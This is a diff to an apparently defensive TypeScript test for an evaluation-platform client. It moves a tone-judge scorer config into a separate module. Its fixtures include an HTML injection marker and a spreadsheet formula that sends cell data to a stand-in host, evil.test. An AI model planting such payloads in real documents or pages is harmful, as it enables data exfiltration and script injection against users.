@@ -1,6 +1,7 @@
 import { type Client, createClient } from "@assay/client";
 import { vi } from "vitest";
 import type { StartedServer } from "../../kit/start-server.ts";
+import { TONE_JUDGE } from "./tone-judge.ts";
 
 /** What every page must show as it is written. */
 export const MARK = "<img src=x";
@@ -21,17 +22,6 @@ const LONG_TEXT = `${MARK}>${"x".repeat(90_000)}`;
 const FORMULA = `=HYPERLINK("https://evil.test?"&A1;"${MARK}")`;
 const PASSWORD = "four plain words in a row";
 const WAIT = { timeout: 120_000, interval: 200 };
-const JUDGE = {
-  type: "label-model",
-  name: "tone",
-  weight: 1,
-  options: {
-    model: "starter",
-    messages: [{ role: "user", content: "{{sample.output_text}}" }],
-    labels: ["yes", "no"],
-    passingLabels: ["yes"],
-  },
-};
 
 /** What was made under names that only the server knows. */
 export interface Hostile {
@@ -120,7 +110,7 @@ async function measure(airline: Client): Promise<string[]> {
     scorers: [
       { type: "contains", name: SHORT, options: { values: [HOSTILE] } },
       { type: "exact-match", name: "exact" },
-      JUDGE,
+      TONE_JUDGE,
     ],
     gate: { label: "production", minCases: 1, minScore: { score: 0.5, on: "mean" } },
   });
